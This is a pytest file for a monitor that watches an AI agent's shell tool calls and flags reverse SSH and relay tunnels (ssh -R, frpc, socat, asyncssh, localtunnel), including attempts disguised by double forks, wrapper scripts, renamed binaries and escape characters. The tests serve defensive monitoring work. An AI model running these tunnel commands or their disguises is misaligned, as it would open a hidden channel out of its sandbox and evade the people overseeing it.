"""reverse-tunnel: every way to ask for one is recognised, and every benign twin is left alone."""

from __future__ import annotations

import pytest

from remit.testing import Playbook

FAR = "203.0.113.9:22"


def in_step(*command: str) -> Playbook:
    """A tool call that runs a shell, which runs `command` in a child."""
    start = Playbook(respond={"reverse-tunnel": "kill"}).step("call_1", "bash", {"command": " ".join(command)})
    return start.spawn("/bin/bash", "-c", " ".join(command), step="call_1").fork().exec(*command)


@pytest.mark.parametrize(
    "command",
    [
        ("/usr/bin/ssh", "-N", "-R", "8080:localhost:22", "me@far"),
        ("/usr/bin/ssh", "-fNR", "0.0.0.0:8080:localhost:22", "me@far"),
        ("/usr/bin/ssh", "-R", "1080", "me@far"),
        ("/usr/bin/ssh", "-o", "RemoteForward=8080 localhost:22", "me@far"),
        ("/usr/bin/ssh", "-w", "0:0", "me@far"),
        ("/usr/bin/ssh", "-N", "-F", "ssh.conf", "far"),
        ("/work/build-helper", "-NR", "8080:localhost:22", "me@far"),
        ("/work/helper", "client", "far:443", "R:8080:localhost:22"),
        ("/opt/frp/frpc", "-c", "frpc.toml"),
        ("/usr/bin/socat", "TCP:far:443", "TCP:localhost:22"),
        ("/usr/bin/python3", "-c", "conn = await asyncssh.connect(h); await conn.forward_remote_port('', 80, 'l', 22)"),
        ("/usr/bin/node", "/work/node_modules/.bin/lt", "--port", "80"),
    ],
    ids=lambda command: " ".join(command)[:40],
)
def test_a_request_for_a_tunnel_is_recognised(command: tuple[str, ...]) -> None:
    in_step(*command).connect(FAR, refused=True).expect(
        "reverse-tunnel", state="attempted", step="call_1", attribution="proven", verdict="kill"
    )
    in_step(*command).connect(FAR, errno=115).expect("reverse-tunnel", state="succeeded", severity="critical")


def test_an_attempt_that_succeeds_later_is_the_same_finding_and_judged_once() -> None:
    book = in_step("/usr/bin/ssh", "-NR", "1:localhost:2", "far").connect(FAR, refused=True).connect(FAR)
    book.connect(FAR).expect("reverse-tunnel", id="f1", state="succeeded")
    assert [verdict["verdict"] for verdict in book.verdicts] == ["kill"]
    assert len(book.messages) == 3


def test_a_grandchild_that_connects_is_charged_through_its_double_fork() -> None:
    book = in_step("/usr/bin/ssh", "-R", "1:localhost:2", "far").fork("middle").fork().exit("middle")
    book.exec("/usr/bin/nc", "far", "22").connect(FAR, refused=True)
    book.expect("reverse-tunnel", step="call_1", attribution="proven")


def test_a_wrapper_script_is_seen_through() -> None:
    book = in_step("/work/run.sh").exec("/bin/sh", "/work/run.sh").fork().exec("/work/x", "-NR", "1:localhost:2", "far")
    book.connect(FAR, refused=True).expect("reverse-tunnel")


def test_a_refused_name_lookup_carries_the_attempt() -> None:
    in_step("/usr/bin/ssh", "-R", "1:localhost:2", "far").connect("10.0.0.2:53", refused=True).expect(
        "reverse-tunnel", state="attempted"
    )


def test_a_refused_socket_and_a_refused_program_carry_the_attempt() -> None:
    in_step("/usr/bin/ssh", "-R", "1:localhost:2", "far").refuse_socket().expect("reverse-tunnel", state="attempted")
    book = Playbook().spawn("/bin/bash").exec("/work/ssh2", "-R", "1:localhost:2", "far", refused=True)
    book.expect("reverse-tunnel", state="attempted")


def test_a_relay_without_any_name_is_recognised_by_its_effect() -> None:
    book = in_step("/usr/bin/python3", "/work/job.py").connect("127.0.0.1:2222").connect("127.0.0.1:8000")
    book.expect_nothing().flow("127.0.0.1:2222", "SSH-2.0-AsyncSSH").expect("reverse-tunnel", state="succeeded")


def test_a_relay_in_the_clear_is_recognised_by_equal_volumes() -> None:
    book = in_step("/work/a").connect("203.0.113.9:443", errno=115).connect("10.0.0.3:5432")
    book.flow("203.0.113.9:443", bytes_in=4000, bytes_out=90_000).flow("10.0.0.3:5432", bytes_in=90_000, bytes_out=4010)
    book.expect("reverse-tunnel", severity="medium", state="succeeded")


@pytest.mark.parametrize(
    "command",
    [
        ("/usr/bin/ssh", "git@example.org", "git-upload-pack 'a/b.git'"),
        ("/usr/bin/ssh", "-o", "BatchMode=yes", "host", "ls", "-R", "/srv"),
        ("/usr/bin/ssh", "-N", "-L", "5432:db:5432", "host"),
        ("/usr/bin/ssh", "-D", "1080", "-N", "host"),
        ("/usr/bin/ssh", "-W", "inner:22", "jump"),
        ("/usr/bin/rsync", "-R", "-e", "ssh", "a", "host:b"),
        ("/usr/bin/git", "commit", "-m", "explain ssh -R 8080:localhost:22"),
        ("/usr/bin/curl", "https://example.org/ngrok.zip"),
        ("/usr/bin/python3", "-m", "pip", "install", "ngrok"),
        ("/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:localhost:80"),
        ("/usr/bin/node", "dev-proxy.js"),
    ],
    ids=lambda command: " ".join(command)[:40],
)
def test_benign_twins_that_connect_out(command: tuple[str, ...]) -> None:
    in_step(*command).connect(FAR).flow(FAR, "SSH-2.0-OpenSSH_9.2", bytes_in=9000, bytes_out=800).expect_nothing()


def test_a_test_that_talks_to_its_own_servers_is_no_relay() -> None:
    book = in_step("/usr/bin/python3", "-m", "pytest").listen("127.0.0.1:2222").listen("127.0.0.1:8000")
    book.connect("127.0.0.1:2222").connect("127.0.0.1:8000").flow("127.0.0.1:2222", "SSH-2.0-x").expect_nothing()


def test_ssh_that_tries_the_next_address_is_no_relay() -> None:
    book = in_step("/usr/bin/ssh", "-p", "2222", "localhost").connect("::1:2222", errno=115).connect("127.0.0.1:2222")
    book.flow("::1:2222", "SSH-2.0-x").expect_nothing()


def test_a_download_and_an_upload_are_no_relay() -> None:
    book = in_step("/work/sync").connect("203.0.113.9:443").connect("10.0.0.3:9000")
    book.flow("203.0.113.9:443", bytes_in=9_000_000, bytes_out=700)
    book.flow("10.0.0.3:9000", bytes_in=900, bytes_out=9_000_000).expect_nothing()


def test_a_child_with_another_program_does_not_carry_its_parents_connections() -> None:
    book = in_step("/usr/bin/python3", "fabfile.py").connect(FAR).fork().exec("/usr/bin/curl", "localhost:8000")
    book.connect("127.0.0.1:8000").expect_nothing()


def test_what_the_agent_wrote_is_cleaned_in_the_summary() -> None:
    in_step("/work/\x1b[2Jssh\u202e", "-R", "1:localhost:2", "far").connect(FAR, refused=True).expect(
        "reverse-tunnel",
        summary="\N{REPLACEMENT CHARACTER}[2Jssh\N{REPLACEMENT CHARACTER}: it asks for remote forwarding:"
        " -R 1:localhost:2; the connection was refused: 203.0.113.9:22",
    )
